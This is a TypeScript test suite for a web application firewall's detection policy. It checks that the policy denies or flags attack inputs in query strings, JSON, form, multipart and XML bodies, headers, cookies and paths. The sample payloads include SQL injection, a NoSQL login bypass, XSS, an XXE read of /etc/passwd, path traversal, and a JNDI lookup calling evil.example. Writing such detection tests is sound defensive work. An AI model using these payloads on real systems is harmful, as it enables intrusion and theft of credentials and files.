// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` lookups and templates.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { Value } from '@sinclair/typebox/value';
import { jsonOf } from '../../openapi/index.ts';
import type { HeaderMap, PolicyContext, PolicyHandlers, SecurityEvent, Verdict } from '../policy.ts';
import { AuthnRecord } from '../request-shared.ts';
import { detectConfig } from './config.ts';
import { detect } from './index.ts';

interface Recorded {
  readonly events: Omit<SecurityEvent, 'policy'>[];
  readonly annotations: Map<string, string | number | boolean>;
}

/** A minimal in-memory PolicyContext for one request. */
function contextFor(
  request: { url?: string; headers?: HeaderMap; body?: string },
  recorded: Recorded,
): PolicyContext {
  const url = request.url ?? '/';
  const q = url.indexOf('?');
  const rawQuery = q < 0 ? '' : url.slice(q + 1);
  const body = request.body === undefined ? undefined : Buffer.from(request.body);
  return {
    requestId: 'req-1',
    method: body === undefined ? 'GET' : 'POST',
    rawUrl: url,
    path: q < 0 ? url : url.slice(0, q),
    rawQuery,
    query: new URLSearchParams(rawQuery),
    headers: request.headers ?? {},
    headerFieldCount: Object.keys(request.headers ?? {}).length,
    clientIp: '127.0.0.1',
    secure: false,
    clientCertificate: undefined,
    route: { name: 'r', upstream: 'http://127.0.0.1:1', pattern: '/*', params: {} },
    body,
    contentLength: body?.length,
    identity: undefined,
    response: undefined,
    authn: new AuthnRecord(),
    matchOperation: (index) =>
      index.match(body === undefined ? 'GET' : 'POST', q < 0 ? url : url.slice(0, q)),
    setUpstreamHeader() {},
    removeUpstreamHeader() {},
    removeUpstreamQueryParam() {},
    annotate(key, value) {
      recorded.annotations.set(key, value);
    },
    emit(event) {
      recorded.events.push(event);
    },
    clock: { now: () => 0 },
    log: { debug() {}, info() {}, warn() {}, error() {} },
  };
}

function create(raw: unknown = {}): PolicyHandlers {
  const config = Value.Default(detectConfig, structuredClone(raw));
  assert.ok(Value.Check(detectConfig, config), 'config is valid');
  return detect.create(config, {
    clock: { now: () => 0 },
    log: { debug() {}, info() {}, warn() {}, error() {} },
    baseDir: '.',
  });
}

function run(
  handlers: PolicyHandlers,
  request: Parameters<typeof contextFor>[0],
): { verdict: Verdict } & Recorded {
  const recorded: Recorded = { events: [], annotations: new Map() };
  const verdict = handlers.onRequest?.(contextFor(request, recorded));
  assert.ok(verdict !== undefined && !(verdict instanceof Promise));
  return { verdict, ...recorded };
}

describe('detect policy', () => {
  test('denies a SQL injection in the query with the rule and location', () => {
    const { verdict } = run(create(), { url: "/search?q=x'%20UNION%20SELECT%20password%20FROM%20users--" });
    assert.equal(verdict.kind, 'deny');
    assert.equal(verdict.kind === 'deny' && verdict.code, 'RAMPART_THREAT_DETECTED');
    assert.equal(verdict.kind === 'deny' && verdict.location, 'query.q');
    assert.match((verdict.kind === 'deny' && verdict.rule) || '', /^sqli\./);
    assert.equal(verdict.kind === 'deny' && verdict.detail, undefined);
  });

  test('reads the JSON body value the policies of the request already parsed, not a second parse', () => {
    const handlers = create();
    const parse = JSON.parse;
    let parses = 0;
    JSON.parse = ((text: string, reviver?: Parameters<typeof JSON.parse>[1]) => {
      parses++;
      return parse(text, reviver);
    }) as typeof JSON.parse;
    try {
      // Not plain (a `.` and an `@`), so the engine needs the parsed document.
      const body = '{"email":"jane.doe@example.com","items":[{"sku":"A-1","note":"ok."}]}';
      const recorded: Recorded = { events: [], annotations: new Map() };
      const ctx = contextFor({ url: '/o', headers: { 'content-type': 'application/json' }, body }, recorded);
      assert.equal(jsonOf(ctx.body!).ok, true);
      parses = 0;
      const verdict = handlers.onRequest!(ctx);
      assert.equal((verdict as Verdict).kind, 'continue');
      assert.equal(parses, 0);
    } finally {
      JSON.parse = parse;
    }
  });

  test('inspects JSON, urlencoded and XML bodies by content type', () => {
    const handlers = create();
    const json = run(handlers, {
      url: '/login',
      headers: { 'content-type': 'application/json' },
      body: '{"user":"admin","password":{"$ne":null}}',
    });
    assert.equal(json.verdict.kind === 'deny' && json.verdict.location, 'body.password.$ne');
    const form = run(handlers, {
      url: '/c',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    });
    assert.equal(form.verdict.kind === 'deny' && form.verdict.location, 'body.comment');
    const xml = run(handlers, {
      url: '/x',
      headers: { 'content-type': 'application/xml' },
      body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    });
    assert.equal(xml.verdict.kind === 'deny' && xml.verdict.rule, 'xxe.external-entity');
  });

  test('reads multipart forms part by part: a one-field form passes, an attack in a part is located', () => {
    const handlers = create();
    const type = { 'content-type': 'multipart/form-data; boundary=X' };
    const part = (name: string, value: string) =>
      `--X\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
    const plain = run(handlers, { url: '/u', headers: type, body: `${part('name', 'John')}--X--\r\n` });
    assert.equal(plain.verdict.kind, 'continue');
    assert.deepEqual(plain.events, []);
    const attack = run(handlers, {
      url: '/u',
      headers: type,
      body: `${part('bio', '<script>alert(1)</script>')}--X--\r\n`,
    });
    assert.equal(attack.verdict.kind === 'deny' && attack.verdict.location, 'body.bio');
  });

  test('from paranoia 2 inspects every header but protocol metadata; protocol anomalies flag at 1, deny at 2', () => {
    const custom = {
      'x-note': "1' UNION SELECT password FROM users--",
      accept: "text/html;q=0.9,*/*;q=0.8'--",
    };
    assert.equal(run(create(), { url: '/a', headers: custom }).verdict.kind, 'continue');
    const p2 = run(create({ paranoia: 2 }), { url: '/a', headers: custom });
    assert.equal(p2.verdict.kind === 'deny' && p2.verdict.location, 'header.x-note');
    const benign = { accept: 'text/html,*/*;q=0.8', 'sec-ch-ua': '"Chromium";v="131", "Not_A Brand";v="24"' };
    assert.equal(run(create({ paranoia: 2 }), { url: '/a', headers: benign }).verdict.kind, 'continue');
    const utf7 = { 'content-type': 'text/plain; charset=utf-7' };
    const flagged = run(create(), { url: '/a', headers: utf7, body: 'hello' });
    assert.equal(flagged.verdict.kind, 'continue');
    assert.ok(flagged.events.some((e) => e.rule === 'protocol.charset'));
    assert.equal(
      run(create({ paranoia: 2 }), { url: '/a', headers: utf7, body: 'hello' }).verdict.kind,
      'deny',
    );
  });

  test('inspects selected headers, cookies and the raw path', () => {
    const handlers = create();
    const ua = run(handlers, { url: '/', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } });
    assert.equal(ua.verdict.kind === 'deny' && ua.verdict.location, 'header.user-agent');
    const cookie = run(handlers, { url: '/', headers: { cookie: 'sid=1; pref=../../../../etc/passwd' } });
    assert.equal(cookie.verdict.kind === 'deny' && cookie.verdict.location, 'cookie.pref');
    const path = run(handlers, { url: '/static/..%2f..%2f..%2fetc%2fpasswd' });
    assert.equal(path.verdict.kind === 'deny' && path.verdict.location, 'path');
  });

  test('flags findings below the threshold as events and lets the request continue', () => {
    const { verdict, events, annotations } = run(create(), {
      url: '/docs?text=see%20%60ls%20-la%60%20for%20files',
    });
    assert.equal(verdict.kind, 'continue');
    assert.ok(events.length > 0);
    assert.match(events[0]!.rule ?? '', /^cmdi\./);
    assert.equal(events[0]!.location, 'query.text');
    assert.ok(typeof annotations.get('threat_score') === 'number');
  });

  test('lets benign requests through without events', () => {
    const { verdict, events } = run(create(), {
      url: "/users?name=O'Brien&q=select%20a%20seat%20from%20the%20map",
      headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)', 'content-type': 'application/json' },
      body: JSON.stringify({ bio: 'I like <b>bold</b> ideas', site: 'https://example.com/a?b=1' }),
    });
    assert.equal(verdict.kind, 'continue');
    assert.deepEqual(events, []);
  });

  test('honours exclusions per location and rule', () => {
    const handlers = create({ exclusions: [{ location: 'body.snippet', rules: ['xss'] }] });
    const request = {
      url: '/p',
      headers: { 'content-type': 'application/json' },
      body: '{"snippet":"<script>x()</script>"}',
    };
    assert.equal(run(handlers, request).verdict.kind, 'continue');
    assert.equal(run(create(), request).verdict.kind, 'deny');
  });

  test('denies requests over the inspection budget with its own code, or flags them', () => {
    const body = JSON.stringify({ a: 'x'.repeat(3000) });
    const request = { url: '/u', headers: { 'content-type': 'application/json' }, body };
    const blocked = run(create({ budget: 1024 }), request);
    assert.equal(blocked.verdict.kind === 'deny' && blocked.verdict.code, 'RAMPART_THREAT_INSPECTION_BUDGET');
    const flagged = run(create({ budget: 1024, overBudget: 'flag' }), request);
    assert.equal(flagged.verdict.kind, 'continue');
    assert.ok(flagged.events.some((e) => e.rule === 'budget'));
  });

  test('asks for the request body only when it inspects it', () => {
    assert.deepEqual(create().needs, { requestBody: true });
    assert.deepEqual(create({ inspect: { body: false } }).needs, { requestBody: false });
  });
});
